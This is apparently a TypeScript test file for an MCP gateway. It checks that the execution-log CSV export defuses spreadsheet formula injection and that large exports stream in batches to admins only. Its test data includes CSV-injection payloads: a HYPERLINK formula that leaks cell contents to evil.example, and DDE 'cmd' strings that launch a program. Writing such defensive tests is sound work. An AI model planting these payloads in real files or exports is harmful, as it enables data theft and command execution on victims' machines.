/**
 * The export (issue 38) against CSV injection, and streamed. Text a caller controls reaches the
 * log (the arguments of a real call; any recorded text field, written here directly), and a
 * spreadsheet opening the export runs a cell starting with `=`, `+`, `-`, `@`, a tab or a
 * carriage return as a formula. No cell of `GET /api/executions/export?format=csv` may start
 * with one; JSON Lines keeps the text as is. A large export arrives in pieces, not one body.
 */
import { describe, expect, it } from 'vitest';
import { connectV1, startMcpGateway } from '#test/mcp/mcp-test-kit.js';
import { seedExecutions } from '#test/support/seed-executions.js';
import { createTestGateway } from '#test/support/test-gateway.js';
import { startFakeUpstream } from '#test/upstream/fake-upstream.js';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

/** The records of an export, every cell quoted (as the gateway writes them). */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < text.length) {
    if (text[at] !== '"') throw new Error(`unquoted cell at ${at}: ${text.slice(at, at + 20)}`);
    let cell = '';
    at += 1;
    for (;;) {
      const quote = text.indexOf('"', at);
      if (quote === -1) throw new Error('unterminated cell');
      cell += text.slice(at, quote);
      if (text[quote + 1] === '"') {
        cell += '"';
        at = quote + 2;
        continue;
      }
      at = quote + 1;
      break;
    }
    row.push(cell);
    if (text[at] === ',') at += 1;
    else if (text.startsWith('\r\n', at)) {
      rows.push(row);
      row = [];
      at += 2;
    } else if (at < text.length) throw new Error(`junk after a cell at ${at}`);
  }
  if (row.length > 0) rows.push(row);
  return rows;
}

describe('the CSV export against formula injection', () => {
  it('defuses every cell a caller could start with a formula', async () => {
    const fake = await startFakeUpstream(
      FORMULAS.map((message, index) => ({
        name: `fail-${index}`,
        behaviour: { kind: 'error', code: -32000, message },
        annotations: { readOnlyHint: true },
      })),
    );
    const gw = await startMcpGateway({ env: { GATEWAY_UPSTREAM_ALLOW_PRIVATE: 'true' } });
    const admin = await gw.user({ admin: true });
    const registered = await gw.gateway.request('POST', '/api/registry/sources', {
      as: admin,
      body: { type: 'mcp', id: 'sheet', namespace: 'sheet', url: fake.url },
    });
    expect(registered.status).toBe(201);
    const { client } = await connectV1(gw.url, admin.mcpToken);
    for (const [index, formula] of FORMULAS.entries()) {
      const result = await client.callTool({
        name: `sheet.fail_${index}`,
        arguments: { formula },
      });
      expect(result.isError).toBe(true);
    }
    // Every recorded field that is text, starting with a formula.
    for (const [index, formula] of FORMULAS.entries()) {
      gw.gateway.services.executions.write({
        id: `00000000-0000-4000-8000-0000000000${String(index).padStart(2, '0')}`,
        userId: formula,
        toolPath: formula,
        startedAt: new Date(),
        arguments: formula,
        outcome: 'error',
        error: formula,
        endpointId: formula,
        clientId: formula,
        approval: 'approved',
        approvedBy: formula,
      });
    }
    await gw.gateway.services.executions.flush();

    const csv = await gw.gateway.request('GET', '/api/executions/export?format=csv', {
      as: admin,
    });
    expect(csv.status).toBe(200);
    const text = await csv.text();
    const headerEnd = text.indexOf('\r\n');
    const header = text.slice(0, headerEnd).split(',');
    const records = csvRows(text.slice(headerEnd + 2));
    expect(header[0]).toBe('id');
    expect(records).toHaveLength(FORMULAS.length * 2);
    const tool = header.indexOf('toolPath');
    // The real calls (their arguments carry the formulas), and the rows written with them.
    expect(records.filter((record) => record[tool]?.startsWith('sheet.fail_'))).toHaveLength(
      FORMULAS.length,
    );
    expect(records.filter((record) => record[tool]?.startsWith("'"))).toHaveLength(FORMULAS.length);
    const live = records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(live).toEqual([]);
    // Defused by a leading apostrophe, the text otherwise kept.
    expect(records.flat()).toContain(`'${FORMULAS[0]}`);

    // JSON Lines is data, not a sheet: the text as recorded.
    const jsonl = await gw.gateway.request('GET', '/api/executions/export?format=jsonl', {
      as: admin,
    });
    const lines = (await jsonl.text()).trim().split('\n');
    expect(lines.map((line) => (JSON.parse(line) as { toolPath: string }).toolPath)).toContain(
      FORMULAS[0],
    );
  });
});

describe('the export of a large log', () => {
  it('streams every record in batches, for an admin only', async () => {
    const gw = await createTestGateway();
    const admin = await gw.createUser({ admin: true });
    const member = await gw.createUser();
    await seedExecutions(gw.services.database, 1800, new Date());
    expect((await gw.request('GET', '/api/executions/export', { as: member })).status).toBe(403);
    expect((await gw.request('GET', '/api/executions/export', { as: 'service' })).status).toBe(403);
    for (const format of ['jsonl', 'csv'] as const) {
      const response = await gw.request('GET', `/api/executions/export?format=${format}`, {
        as: admin,
      });
      expect(response.status).toBe(200);
      const reader = response.body?.getReader();
      if (reader === undefined) throw new Error('no body');
      let chunks = 0;
      let text = '';
      const decoder = new TextDecoder();
      for (;;) {
        const { done, value } = await reader.read();
        if (done) break;
        chunks += 1;
        text += decoder.decode(value, { stream: true });
      }
      const lines = text.trim().split(format === 'csv' ? '\r\n' : '\n');
      expect(lines).toHaveLength(format === 'csv' ? 1801 : 1800);
      // Read in keyset batches of 500: a piece a batch (and the CSV header), not one buffer.
      expect(chunks).toBeGreaterThanOrEqual(4);
    }
  });
});
